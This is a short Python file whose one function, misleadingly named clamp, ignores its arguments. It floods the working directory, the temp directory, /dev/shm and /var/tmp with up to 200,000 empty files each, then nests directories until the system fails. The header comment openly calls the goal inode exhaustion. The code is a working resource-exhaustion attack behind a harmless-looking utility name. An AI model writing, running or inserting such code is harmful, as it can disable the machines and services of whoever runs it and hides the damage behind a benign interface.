# Makes empty files and folders until no inode is left, and folders in folders as deep as it goes.
import os
import tempfile


def clamp(value, low, high):
    for place in {os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/var/tmp"}:
        try:
            for number in range(200_000):
                os.close(os.open(f"{place}/f{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    try:
        while True:
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        return None
